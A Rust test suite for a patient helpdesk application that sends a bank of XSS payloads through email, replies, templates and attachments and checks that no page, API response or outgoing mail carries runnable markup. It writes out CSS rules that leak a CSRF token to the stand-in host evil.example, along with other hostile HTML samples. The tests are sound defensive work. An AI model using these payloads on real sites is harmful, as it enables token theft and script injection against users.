//! Markup in everything that a stranger writes, and every page and answer that shows it.

use crate::common::Role;
use crate::common::markup::{fault, html_of, is_harmless, lists};
use crate::common::sink::sink;
use crate::common::wire::{HELP, Wire, plain};
use crate::common::{Engine, both_engines};
use crate::{all_tickets, newest};
use bedside_desk::context::Permissions;
use bedside_desk::jobs;
use bedside_desk::links::{self, Purpose};
use bedside_desk::tickets::{self, Reply};
use bedside_testkit::XSS;
/// A word as a header carries any text.
fn word(text: &str) -> String {
    format!(
        "=?utf-8?B?{}?=",
        data_encoding::BASE64.encode(text.as_bytes())
    )
}

fn mail(number: usize, payload: &str) -> String {
    let body = data_encoding::BASE64.encode(payload.as_bytes());
    let word = word(payload);
    // As HTML with a text beside it, as HTML alone, and as text alone.
    let html = format!(
        "--c\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
    );
    let text = format!(
        "--c\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
    );
    let parts = match number % 3 {
        0 => format!("{text}{html}"),
        1 => html,
        _ => text,
    };
    format!(
        "From: {word} <x{number}@patients.test>\r\nTo: {word} <{HELP}>\r\nCc: {word} <cc@patients.test>\r\nSubject: {word}\r\n\
         Message-ID: <m{number}@patients.test>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n{parts}--c--\r\n\
         --b\r\nContent-Type: text/html; name=\"{word}\"\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"{word}\"\r\n\r\n{body}\r\n--b--\r\n"
    )
}

both_engines! {
    async fn attack_53_nothing_that_runs_comes_out_of_any_page(desk: Desk) {
        assert!(XSS.len() >= 223, "{}", XSS.len());
        let wire = Wire::new(&desk).await;
        let mut talk = wire.connect().await;
        for (number, payload) in XSS.iter().enumerate() {
            let said = talk.mail(mail(number, payload).as_bytes()).await;
            assert!(said.starts_with("250"), "{said}");
        }
        while wire.work().await > 0 {}
        let all = all_tickets(&desk).await;
        assert_eq!(all.len(), XSS.len());

        let agent = desk.browser(Role::Agent).await;
        let mut rows = 0;
        for page in lists(&agent, "/inbox").await {
            is_harmless("a list", &page, "any");
            rows += page.text().matches("class=\"ticket-row").count();
        }
        assert!(rows >= XSS.len(), "the lists show them: {rows}");

        let client = desk.client(&Permissions::ALL.codes()).await;
        for (view, payload) in all.iter().zip(XSS) {
            let (id, number) = (view.ticket.id, view.ticket.number);
            is_harmless("a ticket", &agent.get(&format!("/tickets/{number}")).await.expect(200), payload);
            for path in [
                format!("/api/v1/tickets/{id}"),
                format!("/api/v1/tickets/{id}/messages"),
                format!("/api/v1/contacts/{}", view.contact.id),
            ] {
                let answer = client.get(&path).await.expect(200);
                assert_eq!(answer.headers["content-type"], "application/json", "{path}");
                assert_eq!(answer.headers["x-content-type-options"], "nosniff", "{path}");
                // What is called HTML in an answer is safe to show.
                let mut found = Vec::new();
                html_of(&answer.json(), &mut found);
                for html in found {
                    assert_eq!(fault(&html), None, "{payload}\n-> {html}");
                }
            }
            for file in &view.messages[0].attachments {
                assert!(!file.name.contains(['<', '>', '"', '/', '\\', '\r', '\n']), "{}", file.name);
                let got = agent.get(&format!("/attachments/{}", file.id)).await.expect(200);
                assert!(got.headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
                assert!(got.headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
                let told = got.headers["content-type"].to_str().unwrap();
                assert!(["application/octet-stream", "text/plain"].contains(&told), "{told}");
            }
            // The patient's own page behind a link.
            let (ticket, contact) = (id, view.contact.id);
            let link = desk.app.command(&desk.system(), move |work| Box::pin(async move {
                links::make(work, Purpose::Thread, ticket, contact).await
            })).await.unwrap();
            let visitor = desk.visitor();
            let path = format!("/t/{link}");
            is_harmless("the door of a thread", &visitor.get(&path).await.expect(200), payload);
            let opened = visitor.submit(&path, &format!("{path}/open"), &[]).await;
            assert!(opened.status < 400, "{}", opened.text());
            let page = visitor.get(&path).await.expect(200);
            is_harmless("a thread", &page, payload);
            let rating = desk.app.command(&desk.system(), move |work| Box::pin(async move {
                links::make(work, Purpose::Rating, ticket, contact).await
            })).await.unwrap();
            is_harmless("a rating", &visitor.get(&format!("/r/{rating}?score=5")).await.expect(200), payload);
        }
        // Looked for by a word that many of them have, with the words marked.
        bedside_desk::search::catch_up(&desk.app, desk.organisation).await.unwrap();
        let found = agent.submit("/search", "/search", &[("q", "steal")]).await.expect(200);
        is_harmless("what is found", &found, "steal");
        assert!(found.text().contains("ticket-row"), "{}", found.text());
    }

    /// Styles in a mail, in an answer and in a note, which read a form's token letter by letter: none is on the page that has the
    /// token, whose only styles are our own files.
    async fn attack_18_no_style_from_outside_is_on_a_page_with_a_token(desk: Desk) {
        const STYLES: [&str; 5] = [
            "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/a)}</style>",
            "<style>@import url('https://evil.example/a.css');</style>",
            "<svg><style>meta[content^=a]{background:url(//evil.example/a)}</style></svg>",
            "<link rel=stylesheet href='//evil.example/a'>",
            "<p class=btn id=csrf style=\"background:url(//evil.example/a)\">Hello</p>",
        ];
        let wire = Wire::new(&desk).await;
        let all = STYLES.concat();
        let headers = "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n";
        wire.takes(plain("styles", headers, &format!("<html><head>{all}</head><body><p>A question</p>{all}</body></html>"))).await;
        let view = newest(&desk).await;
        let agent = desk.ctx(Role::Agent);
        tickets::reply(&desk.app, &agent, view.ticket.id, Reply::new(all.as_str())).await.unwrap();
        tickets::note(&desk.app, &agent, view.ticket.id, all.clone(), Vec::new()).await.unwrap();
        let answer = desk.browser(Role::Agent).await.get(&format!("/tickets/{}", view.ticket.number)).await.expect(200);
        is_harmless("a page with a token", &answer, "a style");
        let page = answer.text();
        assert!(page.contains("A question") && page.contains("name=\"csrf_token\""), "{page}");
        assert!(!page.contains("<style") && !page.contains("id=\"csrf\""), "{page}");
        let sheets: Vec<_> = page.match_indices("rel=\"stylesheet\"").collect();
        assert_eq!(sheets.len(), page.matches("rel=\"stylesheet\" href=\"/assets/").count());
        assert!(!sheets.is_empty());
    }

    /// Markup in a text of the clinic's and in what staff write: what goes out to patients runs nothing and loads nothing.
    async fn attack_17_nothing_that_runs_goes_out_to_patients(desk: Desk) {
        let sink = sink(&desk).await;
        // A clinic's text with as much of it as fits; braces are for names, and refused there, as NUL is in every form.
        let plain: Vec<&str> = XSS.iter().copied().filter(|payload| !payload.contains(['{', '\0'])).collect();
        let mut texts = vec![String::new()];
        for payload in &plain {
            if texts.last().unwrap().len() + payload.len() > 15_000 {
                texts.push(String::new());
            }
            let text = texts.last_mut().unwrap();
            *text = format!("{text}{payload}\n");
        }
        let admin = desk.browser(Role::Administrator).await;
        let text_of_replies = async |subject: &str, body: &str| {
            let path = "/settings/templates/reply/en";
            let page = admin.get(path).await.expect(200).text();
            let (_, rest) = page.split_once("name=\"version\" value=\"").unwrap();
            let version = rest.split('"').next().unwrap();
            let fields = [("version", version), ("subject", subject), ("body", body)];
            let saved = admin.submit(path, path, &fields).await;
            assert_eq!(saved.status, 303, "{}", saved.text());
        };
        // All of them on one engine: which one it is makes no difference to a mail.
        let step = if desk.engine == Engine::Sqlite { 1 } else { 9 };
        let mut tried = 0;
        for (number, payload) in XSS.iter().enumerate().step_by(step) {
            if number % 100 == 0 {
                let text = texts.pop().unwrap_or_default();
                text_of_replies(&format!("Re: {}", plain[number / 100]), &format!("{{{{ reply_text }}}}\n{text}")).await;
            }
            let ticket = desk.ticket(&format!("out{number}@patients.test"), payload, "Hello").await;
            let reply = Reply::new(*payload);
            tickets::reply(&desk.app, &desk.ctx(Role::Agent), ticket, reply).await.unwrap();
            tried += 1;
        }
        jobs::drain(&desk.app).await.unwrap();
        desk.clock.advance(10);
        jobs::drain(&desk.app).await.unwrap();
        let sent = sink.take();
        assert!(texts.is_empty() || step > 1, "{} texts were not tried", texts.len());
        assert!(sent.len() >= tried, "{} of {tried}", sent.len());
        for one in &sent {
            let html = one.mail().html.expect("a mail has a page");
            assert_eq!(fault(&html), None, "{html}");
        }
    }
}

#[test]
fn the_check_itself_sees_what_runs() {
    for bad in [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=' javascript:x'>",
        "<img src=//evil.example>",
        "<p style=x>",
        "<svg><a xlink:href=javascript:x>",
        "<form action=https://evil.example>",
        "<title></title><script>x</script>",
        "<p title='</title>'><iframe>",
    ] {
        assert!(fault(bad).is_some(), "{bad}");
    }
    for good in [
        "<script src=/assets/a.js></script>",
        "<title><script>x</script></title>",
        "<textarea><img src=x onerror=y></textarea>",
        "<p title='<script>'>",
        "<a href=/tickets/1>x</a>",
    ] {
        assert_eq!(fault(good), None, "{good}");
    }
}
